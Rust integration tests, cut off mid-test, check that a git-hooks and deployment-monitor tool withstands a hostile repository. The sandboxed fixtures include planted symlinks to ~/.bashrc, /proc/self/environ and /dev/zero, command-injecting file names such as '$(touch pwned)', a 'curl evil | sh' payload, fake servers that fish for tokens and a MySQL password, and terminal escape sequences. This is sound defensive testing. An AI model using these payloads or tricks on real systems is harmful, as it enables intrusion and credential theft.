//! The repository is untrusted input: each attack a compromised agent can commit, run against
//! the real executables, now doing no harm. A sandboxed `HOME` stands in for the victim's
//! machine, local servers for the attacker's.
//!
//! See: the untrusted-repository issue.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::http::{Reply, Server};
use crate::monitor::{App, Deploy, FAST};
use crate::smart_http::GitHttp;
use crate::util::{Sandbox, bin, describe, read, wait_until, write};

/// A repository whose one commit holds `files` (path, content) and `links` (path, target).
fn hostile_remote(sb: &Sandbox, files: &[(&str, &str)], links: &[(&str, &str)]) -> PathBuf {
    let seed = sb.path().join("hostile-seed");
    std::fs::create_dir_all(&seed).expect("create seed");
    sb.git(&seed, &["init", "-q", "-b", "main"]);
    write(&seed.join("README.md"), "# project\n");
    for (path, content) in files {
        write(&seed.join(path), content);
    }
    for (path, target) in links {
        let at = seed.join(path);
        std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
        symlink(target, &at).expect("plant a link");
    }
    sb.git(&seed, &["add", "-A"]);
    sb.git(&seed, &["commit", "-q", "-m", "innocent-looking"]);
    let bare = sb.path().join("hostile.git");
    sb.git(
        sb.path(),
        &[
            "clone",
            "-q",
            "--bare",
            seed.to_str().expect("utf-8"),
            bare.to_str().expect("utf-8"),
        ],
    );
    bare
}

/// The victim's `~/.bashrc`, with content to compare against afterwards.
fn bashrc(sb: &Sandbox) -> PathBuf {
    let path = sb.path().join("home/.bashrc");
    write(&path, "# the victim's shell setup\n");
    path
}

#[test]
fn install_hooks_writes_nothing_through_committed_links() {
    let sb = Sandbox::new();
    let rc = bashrc(&sb);
    let remote = hostile_remote(
        &sb,
        &[("notes/payload", "curl evil | sh\n")],
        &[
            (".gitattributes", "notes/payload"),
            ("..gitattributes.mainstay-tmp", rc.to_str().expect("utf-8")),
        ],
    );
    let work = sb.clone_repo(&remote, "work");
    let out = sb.run("install-hooks", &work, &[]);
    assert!(
        !out.status.success(),
        "{}",
        describe("install-hooks", &work, &out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(".gitattributes") && stderr.contains("symbolic link"),
        "{stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert_eq!(read(&rc), "# the victim's shell setup\n");
    assert_eq!(read(&work.join("notes/payload")), "curl evil | sh\n");
    // Refused before anything changed: no hook, no config, no manifest.
    assert!(!work.join(".git/hooks/pre-push").exists());
    assert!(!work.join(".git/mainstay/install.json").exists());
}

#[test]
fn install_hooks_ignores_temp_names_a_commit_planted() {
    let sb = Sandbox::new();
    let rc = bashrc(&sb);
    let target = rc.to_str().expect("utf-8");
    let remote = hostile_remote(
        &sb,
        &[(".husky/pre-push", "echo project hook\n")],
        &[
            ("..gitattributes.mainstay-tmp", target),
            (".husky/_/.pre-push.mainstay-tmp", target),
            (".husky/_/..pre-push.mainstay-tmp", target),
        ],
    );
    let work = sb.clone_repo(&remote, "work");
    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
    sb.install(&work);
    assert_eq!(read(&rc), "# the victim's shell setup\n");
    let hook = std::fs::symlink_metadata(work.join(".husky/_/pre-push")).expect("installed");
    assert!(hook.is_file(), "a regular file, not written through a link");
    assert!(read(&work.join(".gitattributes")).contains("merge=mainstay-roadmap"));
    let leftovers: Vec<_> = std::fs::read_dir(&work)
        .expect("list")
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn install_hooks_refuses_a_hooks_directory_reached_through_a_committed_link() {
    let sb = Sandbox::new();
    let outside = sb.path().join("home/bin");
    std::fs::create_dir_all(&outside).expect("mkdir");
    let remote = hostile_remote(&sb, &[], &[(".husky", "../home/bin")]);
    let work = sb.clone_repo(&remote, "work");
    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
    let out = sb.run("install-hooks", &work, &[]);
    assert!(
        !out.status.success(),
        "{}",
        describe("install-hooks", &work, &out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains(".husky is a symbolic link"), "{stderr}");
    let written: Vec<_> = walk(&outside);
    assert!(written.is_empty(), "written outside the clone: {written:?}");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(walk(&path));
        } else {
            found.push(path);
        }
    }
    found
}

#[test]
fn a_committed_api_base_never_receives_the_token() {
    const TOKEN: &str = "dop_v1_victims_token";
    let evil = Server::start(|_| Reply::json(200, r#"{"deployments":[]}"#));
    let config = format!(
        "{FAST}\n[deploy.digitalocean]\napp_id = \"app-1\"\napi_base = \"{}\"\n",
        evil.url("")
    );
    let deploy = Deploy::new(&config).with_env("DIGITALOCEAN_TOKEN", TOKEN);
    assert_eq!(deploy.run(), "failed");
    let log = deploy.log();
    assert!(
        log.contains("api_base in [deploy.digitalocean]")
            && log.contains("not sent: the token goes only to https://api.digitalocean.com"),
        "{log}"
    );
    let out = deploy.command(&["doctor"]).output().expect("run doctor");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("MAINSTAY_API_HOSTS"), "{said}");
    assert!(
        evil.requests().is_empty(),
        "the token's holder was contacted: {:?}",
        evil.requests()
    );
    assert!(!log.contains(TOKEN) && !said.contains(TOKEN));
}

/// A repository with a commit `A` to follow, and a second commit carrying `links` named after A.
fn planted(links: &[(&str, &str)]) -> (Deploy, App) {
    let app = App::start("", vec![200]);
    let deploy = Deploy::new("");
    *app.commit.lock().expect("commit") = deploy.sha.clone();
    let sha7 = &deploy.sha[..7];
    for (name, target) in links {
        let name = name.replace("SHA7", sha7);
        symlink(target, deploy.repo.join(&name)).expect("plant a link");
        deploy.sandbox.git(&deploy.repo, &["add", "--", &name]);
    }
    if !links.is_empty() {
        deploy.sandbox.git(
            &deploy.repo,
            &["commit", "-q", "-m", "status files, hostile"],
        );
    }
    write(&deploy.repo.join(".mainstay.toml"), &app.config(None, "1s"));
    (deploy, app)
}

#[test]
fn the_monitor_never_writes_through_status_files_a_commit_planted() {
    let sink = tempfile::NamedTempFile::new().expect("a file outside the repository");
    std::fs::write(sink.path(), "keep\n").expect("write sink");
    let elsewhere = std::env::temp_dir().join(format!("mainstay-elsewhere-{}", std::process::id()));
    let (deploy, _app) = planted(&[
        (
            ".deployment-status-SHA7.log",
            sink.path().to_str().expect("utf-8"),
        ),
        (
            ".deployment-monitor-SHA7.lock",
            elsewhere.to_str().expect("utf-8"),
        ),
    ]);
    let out = deploy.monitor();
    assert!(
        !out.status.success(),
        "{}",
        describe("monitor", &deploy.repo, &out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("tracked by git"), "{stderr}");
    assert_eq!(read(sink.path()), "keep\n");
    assert!(
        !elsewhere.exists(),
        "a dangling link created a file outside"
    );
    let changed = deploy.sandbox.git(
        &deploy.repo,
        &["status", "--porcelain", "--untracked-files=no"],
    );
    assert!(changed.is_empty(), "{changed}");
    // status reads nothing through the link either, and says why.
    let out = deploy.status(&[&deploy.sha]);
    assert_eq!(
        out.status.code(),
        Some(4),
        "{}",
        describe("status", &deploy.repo, &out)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
}

#[test]
fn the_monitor_refuses_a_link_at_a_status_name_even_untracked() {
    let (deploy, _app) = planted(&[]);
    let record = deploy
        .repo
        .join(format!(".deployment-status-{}.json", &deploy.sha[..7]));
    symlink("/proc/self/environ", &record).expect("plant a link");
    let out = deploy.monitor();
    assert!(
        !out.status.success(),
        "{}",
        describe("monitor", &deploy.repo, &out)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
    assert!(
        std::fs::symlink_metadata(&record)
            .expect("still there")
            .file_type()
            .is_symlink()
    );
}

#[test]
fn a_record_linked_to_dev_zero_is_skipped_not_read() {
    // The local history reads every record in the work tree; this one never ends.
    let (deploy, _app) = planted(&[(".deployment-status-0000000.json", "/dev/zero")]);
    assert_eq!(deploy.run(), "success");
}

#[test]
fn post_push_follows_nothing_whose_status_files_git_tracks() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    let sink = sb.path().join("sink");
    write(&sink, "keep\n");
    let sha = sb.commit(&work, "app.txt", "v2\n", "change");
    let name = format!(".deployment-status-{}.log", &sha[..7]);
    symlink(&sink, work.join(&name)).expect("plant a link");
    sb.git(&work, &["add", "-f", "--", &name]);
    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
    assert!(
        out.status.success(),
        "{}",
        describe("git push", &work, &out)
    );
    let log = sb.common_dir(&work).join("mainstay/post-push.log");
    wait_until("post-push to decide", || read(&log).contains(&sha));
    let line = read(&log);
    assert!(
        line.contains("landed, but is not followed") && line.contains("tracked"),
        "{line}"
    );
    assert_eq!(read(&sink), "keep\n");
}

/// A MySQL 8 server that offers no TLS, asks for full `caching_sha2_password` authentication
/// and would hand over its own RSA key: it keeps every packet the client sends.
fn fake_mysql() -> (u16, Arc<Mutex<Vec<Vec<u8>>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let packets = Arc::new(Mutex::new(Vec::new()));
    let seen = packets.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let seen = seen.clone();
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let mut hello = vec![0x0a];
                hello.extend_from_slice(b"8.0.36\0");
                hello.extend_from_slice(&7u32.to_le_bytes());
                hello.extend_from_slice(b"abcdefgh\0");
                // LONG_PASSWORD, LONG_FLAG, CONNECT_WITH_DB, PROTOCOL_41, TRANSACTIONS,
                // SECURE_CONNECTION, MULTI_RESULTS, PLUGIN_AUTH: and no SSL.
                let caps: u32 = 0x1 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000;
                hello.extend_from_slice(&(caps as u16).to_le_bytes());
                hello.push(0xff);
                hello.extend_from_slice(&2u16.to_le_bytes());
                hello.extend_from_slice(&((caps >> 16) as u16).to_le_bytes());
                hello.push(21);
                hello.extend_from_slice(&[0; 10]);
                hello.extend_from_slice(b"ijklmnopqrst\0");
                hello.extend_from_slice(b"caching_sha2_password\0");
                let send = |stream: &mut std::net::TcpStream, seq: u8, payload: &[u8]| {
                    let len = (payload.len() as u32).to_le_bytes();
                    let mut packet = vec![len[0], len[1], len[2], seq];
                    packet.extend_from_slice(payload);
                    let _ = stream.write_all(&packet);
                };
                send(&mut stream, 0, &hello);
                let mut seq = 1;
                loop {
                    let mut head = [0u8; 4];
                    if stream.read_exact(&mut head).is_err() {
                        break;
                    }
                    let len = u32::from_le_bytes([head[0], head[1], head[2], 0]) as usize;
                    let mut payload = vec![0; len];
                    if stream.read_exact(&mut payload).is_err() {
                        break;
                    }
                    seen.lock().expect("packets").push(payload);
                    seq = head[3].wrapping_add(1);
                    if seq == 2 {
                        // "Perform full authentication."
                        send(&mut stream, seq, &[0x01, 0x04]);
                    }
                }
                let _ = seq;
            });
        }
    });
    (port, packets)
}

#[test]
fn a_database_without_tls_never_gets_the_password() {
    const PASSWORD: &str = "db-s3cret-pw";
    let (port, packets) = fake_mysql();
    let config = FAST.replace("max_wait = \"20s\"", "max_wait = \"2s\"") + "\n[deploy.mysql]\n";
    let deploy = Deploy::new(&config)
        .with_env("DB_HOST", "127.0.0.1")
        .with_env("DB_PORT", &port.to_string())
        .with_env("DB_USER", "deploy")
        .with_env("DB_PASS", PASSWORD)
        .with_env("DB_NAME", "deploys")
        .with_env("MAINSTAY_DB_TLS", "disabled");
    assert_eq!(deploy.run(), "failed");
    let log = deploy.log();
    assert!(log.contains("warning: TLS is off"), "{log}");
    assert!(log.contains("MAINSTAY_DB_SERVER_KEY"), "{log}");
    let packets = packets.lock().expect("packets").clone();
    assert!(!packets.is_empty(), "the client connected");
    assert!(
        !packets.iter().any(|p| p.as_slice() == [0x02]),
        "the client asked the server for its key: {packets:?}"
    );
    let all: Vec<u8> = packets.concat();
    assert!(
        !all.windows(PASSWORD.len())
            .any(|w| w == PASSWORD.as_bytes()),
        "the password went out in clear"
    );
    assert!(!log.contains(PASSWORD));
}

#[test]
fn a_committed_tls_disabled_is_refused() {
    let deploy = Deploy::new(&format!("{FAST}\n[deploy.mysql]\ntls = \"disabled\"\n"))
        .with_env("DB_HOST", "10.0.0.5");
    let out = deploy.monitor();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("key `deploy.mysql.tls`") && stderr.contains("MAINSTAY_DB_TLS=disabled"),
        "{stderr}"
    );
}

#[test]
fn a_password_in_a_remote_url_reaches_no_argv_log_or_record() {
    const PASSWORD: &str = "url-s3cret-pw";
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    // The listing post-push asks for fails, so its error line is logged.
    let server = GitHttp::refusing(&crate::smart_http::root_of(&remote), sb.env(), |target| {
        target.contains("git-upload-pack").then_some(500)
    });
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    // git's own trace records the command line of every git process, ours included.
    let argv = sb.path().join("trace.log");
    let url = server.url_with_password("agent", PASSWORD, "remote.git");
    // The deploy remote, as people paste it: with the password in its URL.
    sb.git(&work, &["remote", "set-url", "origin", &url]);
    let sha = sb.commit(&work, "app.txt", "v2\n", "change");
    let push = |args: &[&str]| {
        sb.command("git", &work)
            .env("GIT_TRACE", &argv)
            .args(args)
            .output()
            .expect("run git push")
    };
    let out = push(&["push", "-q", &url, "main"]);
    assert!(
        out.status.success(),
        "{}",
        describe("git push", &work, &out)
    );
    let log = sb.common_dir(&work).join("mainstay/post-push.log");
    wait_until("post-push to log the failed listing", || {
        read(&log).contains("error")
    });
    // An agent branch, force-pushed: the audit log names the remote.
    sb.git(&work, &["checkout", "-q", "-b", "agent/x"]);
    sb.commit(&work, "a.txt", "1\n", "one");
    assert!(push(&["push", "-q", &url, "agent/x"]).status.success());
    sb.git(&work, &["commit", "-q", "--amend", "-m", "rewritten"]);
    let out = push(&["push", "-q", "--force", &url, "agent/x"]);
    assert!(
        out.status.success(),
        "{}",
        describe("git push --force", &work, &out)
    );
    let audit = read(&sb.common_dir(&work).join("mainstay/audit.jsonl"));
    assert!(audit.contains("force-push"), "{audit}");
    // `mainstay push` to the URL, the server gone.
    drop(server);
    let out = sb
        .command(bin("mainstay"), &work)
        .env("GIT_TRACE", &argv)
        .args(["push", &url, "agent/x"])
        .output()
        .expect("run mainstay push");
    assert!(!out.status.success());
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let argv = read(&argv);
    // Our own git calls happened, and none carried the password. The user's `git push` and the
    // helpers git itself runs for a URL (`git remote-http`, `send-pack`, `fetch-pack`, the hook's
    // `$2`) are git's.
    assert!(argv.contains("built-in: git ls-remote"), "{argv}");
    let gits_own = ["git push", "git send-pack", "git fetch-pack", "git remote-"];
    let ours: Vec<&str> = argv
        .lines()
        .filter(|l| l.contains("built-in: git "))
        .filter(|l| {
            !gits_own
                .iter()
                .any(|own| l.contains(&format!("built-in: {own}")))
        })
        .collect();
    for (what, text) in [
        ("argv", ours.join("\n")),
        ("post-push.log", read(&log)),
        ("audit.jsonl", audit),
        ("mainstay push", said),
    ] {
        assert!(
            !text.contains(PASSWORD),
            "{what} holds the password:\n{text}"
        );
    }
    let _ = sha;
}

/// A sessions ledger of `n` list items under one heading.
fn big_ledger(n: usize, extra: &str) -> String {
    let mut text = String::from("# Active sessions\n\n## Sessions\n\n");
    for i in 0..n {
        text.push_str(&format!(
            "- Session-20260101-TASK-{i:06}-abcdef: working on item {i}\n"
        ));
    }
    text.push_str(extra);
    text
}

#[test]
fn a_merge_past_its_budget_falls_back_to_the_marked_line_merge() {
    let sb = Sandbox::new();
    let dir = sb.path().join("files");
    let base = big_ledger(40_000, "");
    let ours = big_ledger(40_000, "- Session-20261201-OURS-000001-zzzzzz: ours\n");
    let theirs = big_ledger(40_000, "- Session-20261201-THEIRS-000001-yyyyyy: theirs\n");
    for budget in [None, Some("1ms")] {
        write(&dir.join("base.md"), &base);
        write(&dir.join("ours.md"), &ours);
        write(&dir.join("theirs.md"), &theirs);
        let mut cmd = sb.command(bin("merge-driver"), &dir);
        cmd.args([
            "sessions",
            "--",
            "base.md",
            "ours.md",
            "theirs.md",
            "7",
            "SESSIONS.md",
        ]);
        if let Some(budget) = budget {
            cmd.env("MAINSTAY_MERGE_BUDGET", budget);
        }
        let out = cmd.output().expect("run merge-driver");
        let merged = read(&dir.join("ours.md"));
        assert!(
            merged.contains(": ours") && merged.contains(": theirs"),
            "{budget:?}"
        );
        match budget {
            None => assert_eq!(
                out.status.code(),
                Some(0),
                "{}",
                describe("merge", &dir, &out)
            ),
            Some(_) => {
                assert_eq!(
                    out.status.code(),
                    Some(1),
                    "{}",
                    describe("merge", &dir, &out)
                );
                assert!(merged.contains("<<<<<<<"));
                assert!(String::from_utf8_lossy(&out.stderr).contains("MAINSTAY_MERGE_BUDGET"));
            }
        }
    }
}

#[test]
fn a_config_linked_to_dev_zero_is_refused_at_once() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    symlink("/dev/zero", work.join(".mainstay.toml")).expect("plant a link");
    sb.git(&work, &["add", "--", ".mainstay.toml"]);
    sb.git(&work, &["commit", "-q", "-m", "config, hostile"]);
    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(".mainstay.toml") && stderr.contains("symbolic link"),
        "{stderr}"
    );
    // The merge driver steps aside to the line merge, naming why.
    let dir = &work;
    for (name, text) in [("b.md", "a\n"), ("o.md", "a\nb\n"), ("t.md", "a\n")] {
        write(&dir.join(name), text);
    }
    let out = sb.run(
        "merge-driver",
        dir,
        &["roadmap", "--", "b.md", "o.md", "t.md"],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        describe("merge-driver", dir, &out)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("merging line by line"));
}

#[test]
fn hostile_file_names_routed_to_the_driver_merge_as_files() {
    let sb = Sandbox::new();
    let names = [
        "--stdout",
        "a b $(touch pwned).md",
        "-x'; touch pwned2 #.md",
    ];
    let mut attributes = String::new();
    let mut files = Vec::new();
    for name in names {
        // A quoted pattern, as git reads names with spaces.
        attributes.push_str(&format!("\"{name}\" merge=mainstay-sessions\n"));
        files.push((
            name,
            "# Sessions\n\n- Session-20260101-A-000001-aaaaaa: one\n",
        ));
    }
    files.push((".gitattributes", attributes.as_str()));
    let remote = hostile_remote(&sb, &files, &[]);
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    sb.git(&work, &["commit", "-q", "-am", "route the ledgers"]);
    let add = |branch: &str, who: &str| {
        sb.git(&work, &["checkout", "-q", "-B", branch, "main"]);
        for name in names {
            let path = work.join(name);
            let text = read(&path) + &format!("- Session-20261201-{who}-000001-bbbbbb: {who}\n");
            write(&path, &text);
        }
        sb.git(&work, &["commit", "-q", "-am", who]);
    };
    add("theirs", "THEIRS");
    add("ours", "OURS");
    let out = sb.git_output(&work, &["merge", "-q", "--no-edit", "theirs"]);
    assert!(
        out.status.success(),
        "{}",
        describe("git merge", &work, &out)
    );
    for name in names {
        let merged = read(&work.join(name));
        assert!(
            merged.contains(": OURS") && merged.contains(": THEIRS"),
            "{name}: {merged}"
        );
    }
    assert!(!work.join("pwned").exists() && !work.join("pwned2").exists());
}

#[test]
fn what_an_app_answers_cannot_mention_link_or_drive_the_terminal() {
    // JSON escapes: the app's answer decodes to a real ESC and BEL.
    let app = App::start("<!channel>\\u001b[2J\\u001b]0;pwned\\u0007", vec![200]);
    let webhook = Server::start(|_| Reply::json(200, "ok"));
    // Long enough for the app's answer on a busy machine: no request outlives max_wait.
    let config = app
        .config(None, "1s")
        .replace("max_wait = \"20s\"", "max_wait = \"1s\"");
    let deploy = Deploy::new(&config).with_env("MAINSTAY_WEBHOOK_URL", &webhook.url("/hook"));
    assert_eq!(deploy.run(), "timeout");
    let alerts = webhook.requests();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let body: serde_json::Value = serde_json::from_str(&alerts[0].body).expect("JSON");
    let text = body["text"].as_str().expect("text");
    assert!(
        !text.contains("<!channel>") && text.contains("&lt;!channel&gt;"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'), "{text:?}");
    let out = deploy.status(&[&deploy.sha]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        !out.stdout.contains(&0x1b),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(!deploy.log().contains('\u{1b}'));
}

#[test]
fn a_committed_github_api_base_never_receives_the_token() {
    const TOKEN: &str = "ghp_victimsGitHubToken77";
    let evil = Server::start(|_| Reply::json(200, "[]"));
    let config = format!(
        "{FAST}\n[deploy.github]\nrepo = \"acme/web\"\nenvironment = \"Production\"\n\
         api_base = \"{}\"\n",
        evil.url("")
    );
    let deploy = Deploy::new(&config).with_env("GITHUB_TOKEN", TOKEN);
    assert_eq!(deploy.run(), "failed");
    let log = deploy.log();
    assert!(
        log.contains("api_base in [deploy.github]")
            && log.contains("not sent: the token goes only to https://api.github.com"),
        "{log}"
    );
    let out = deploy.command(&["doctor"]).output().expect("run doctor");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.contains("api_base in [deploy.github]") && said.contains("MAINSTAY_API_HOSTS"),
        "{said}"
    );
    // Nor does a clone that asks the sources for a status.
    let out = deploy.status(&[]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "the monitor's failed verdict stands"
    );
    std::fs::remove_file(
        deploy
            .repo
            .join(format!(".deployment-status-{}.result", &deploy.sha[..7])),
    )
    .expect("remove the result");
    for ext in ["log", "json"] {
        let _ = std::fs::remove_file(
            deploy
                .repo
                .join(format!(".deployment-status-{}.{ext}", &deploy.sha[..7])),
        );
    }
    let out = deploy.status(&[]);
    assert_eq!(out.status.code(), Some(3));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("api_base in [deploy.github]"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        evil.requests().is_empty(),
        "the token's holder was contacted: {:?}",
        evil.requests()
    );
    assert!(!log.contains(TOKEN) && !said.contains(TOKEN));
}

/// A run record as the monitor writes it, for a success of `sha` that took `ms`.
fn success_record(sha: &str, ms: u64) -> String {
    let now = mainstay::time::rfc3339(std::time::SystemTime::now());
    serde_json::json!({
        "sha": sha, "pid": 1, "started_at": now, "ended_at": now, "verdict": "success",
        "schedule": "fixed", "source": "app", "polls": 2, "phases": [], "live_after_ms": ms,
        "ready_after_ms": null, "error": null, "branch": "main"
    })
    .to_string()
}

#[test]
fn committed_status_files_and_records_say_nothing_of_a_deployment() {
    let deploy = Deploy::new("");
    let sha7 = &deploy.sha[..7];
    let result = format!(".deployment-status-{sha7}.result");
    write(&deploy.repo.join(&result), "success\n");
    // Records of past runs, to steer the schedule and the figures.
    for (i, fake) in ["1111111", "2222222", "3333333"].iter().enumerate() {
        write(
            &deploy.repo.join(format!(".deployment-status-{fake}.json")),
            &success_record(&fake.repeat(6)[..40], 1000 * (i as u64 + 1)),
        );
    }
    deploy
        .sandbox
        .git(&deploy.repo, &["add", "-f", "--", ".deployment-status-*"]);
    deploy
        .sandbox
        .git(&deploy.repo, &["commit", "-q", "-m", "a verdict, hostile"]);
    let out = deploy.status(&[&deploy.sha]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        describe("status", &deploy.repo, &out)
    );
    assert!(!said.contains("success"), "{said}");
    let not_read: Vec<&str> = said.lines().filter(|l| l.contains("not read")).collect();
    assert_eq!(not_read.len(), 1, "{said}");
    assert!(
        not_read[0].contains(&result) && not_read[0].contains("tracked by git"),
        "{said}"
    );
    let out = deploy.status(&["--json", &deploy.sha]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(json["ignored"], serde_json::json!([result]), "{json}");
    // Nor do the records count as this clone's runs.
    let out = deploy
        .command(&["stats", "--json"])
        .output()
        .expect("run mainstay stats");
    let stats: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(stats["sources"]["local_runs"], 0, "{stats}");
    // And the schedule learns nothing from them.
    let app = App::start(&deploy.sha, vec![200]);
    let config = app
        .config(None, "1s")
        .replace("schedule = \"fixed\"", "schedule = \"history\"");
    write(&deploy.repo.join(".mainstay.toml"), &config);
    deploy
        .sandbox
        .git(&deploy.repo, &["rm", "-q", "--", &result]);
    deploy
        .sandbox
        .git(&deploy.repo, &["commit", "-q", "-m", "the verdict goes"]);
    assert_eq!(deploy.run(), "success");
    assert!(deploy.log().contains("schedule: fixed"), "{}", deploy.log());
}

/// Runs one of our executables with at most `mb` MB of address space: a read without a bound
/// ends it, instead of taking the machine's memory.
fn run_limited(sb: &Sandbox, name: &str, dir: &Path, args: &[&str], mb: u64) -> Output {
    run_limited_with_input(sb, name, dir, args, mb, "")
}

/// [`run_limited`] with `input` on its stdin.
fn run_limited_with_input(
    sb: &Sandbox,
    name: &str,
    dir: &Path,
    args: &[&str],
    mb: u64,
    input: &str,
) -> Output {
    let mut child = sb
        .command("sh", dir)
        .arg("-c")
        .arg(format!("ulimit -v {}; exec \"$0\" \"$@\"", mb * 1024))
        .arg(bin(name))
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run under a memory limit");
    let mut stdin = child.stdin.take().expect("stdin");
    // A hook that ends without reading its input closes the pipe: not the test's concern.
    let _ = stdin.write_all(input.as_bytes());
    drop(stdin);
    child.wait_with_output().expect("wait for it")
}

/// A second clone of `remote` commits `files` and `links` (forced past any ignore file) and
/// pushes them, as another agent would.
fn pushed_by_another(sb: &Sandbox, remote: &Path, files: &[(&str, &str)], links: &[(&str, &str)]) {
    let other = sb.clone_repo(remote, "another");
    for (path, content) in files {
        write(&other.join(path), content);
        sb.git(&other, &["add", "-f", "--", path]);
    }
    for (path, target) in links {
        let at = other.join(path);
        std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
        let _ = std::fs::remove_file(&at);
        symlink(target, &at).expect("plant a link");
        sb.git(&other, &["add", "-f", "--", path]);
    }
    sb.git(&other, &["commit", "-q", "-m", "hooks, hostile"]);
    sb.git(&other, &["push", "-q", "origin", "main"]);
}

#[test]
fn install_hooks_reads_no_local_hook_a_commit_linked_to_dev_zero() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
    // husky's own directory ignores itself, so a pull may write into it.
    write(&work.join(".husky/_/.gitignore"), "*\n");
    sb.install(&work);
    pushed_by_another(
        &sb,
        &remote,
        &[(".husky/_/pre-push", "#!/bin/sh\nexit 0\n")],
        &[(".husky/_/pre-push.local", "/dev/zero")],
    );
    sb.git(&work, &["pull", "-q", "--ff-only"]);
    let out = run_limited(
        &sb,
        "install-hooks",
        &work,
        &["--repo", work.to_str().expect("utf-8")],
        512,
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        describe("install-hooks", &work, &out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(".husky/_/pre-push.local is a symbolic link"),
        "{stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert_eq!(
        read(&work.join(".husky/_/pre-push")),
        "#!/bin/sh\nexit 0\n",
        "nothing moved"
    );
}

#[test]
fn install_hooks_refuses_links_a_commit_put_at_hook_names_before_changing_anything() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    // The routing lines are shared with the project, as the docs suggest.
    sb.git(&work, &["add", ".gitattributes"]);
    sb.git(&work, &["commit", "-q", "-m", "route the ledgers"]);
    sb.git(&work, &["push", "-q", "origin", "main"]);
    let manifest = read(&work.join(".git/mainstay/install.json"));
    pushed_by_another(
        &sb,
        &remote,
        &[("notes/run.sh", "#!/bin/sh\ntouch pwned\n")],
        &[
            (".husky/_/pre-push", "../../notes/run.sh"),
            (".gitattributes", "notes/run.sh"),
        ],
    );
    sb.git(&work, &["pull", "-q", "--ff-only"]);
    // husky's `prepare` script points git at its directory; ours must move there.
    sb.git(&work, &["config", "core.hooksPath", ".husky/_"]);
    let installed = work.join(".git/hooks/pre-push");
    for named in [".gitattributes", ".husky/_/pre-push"] {
        let out = sb.run("install-hooks", &work, &[]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{}",
            describe("install-hooks", &work, &out)
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!("work/{named}")) && stderr.contains("symbolic link"),
            "{stderr}"
        );
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        // Refused before anything changed: the hooks in .git/hooks still guard the clone.
        assert!(installed.is_file(), "{named}: the old install was removed");
        assert_eq!(read(&work.join(".git/mainstay/install.json")), manifest);
        assert!(
            std::fs::symlink_metadata(work.join(".husky/_/pre-push"))
                .expect("still there")
                .file_type()
                .is_symlink()
        );
        // The next refusal: the link at .gitattributes goes.
        sb.git(
            &work,
            &[
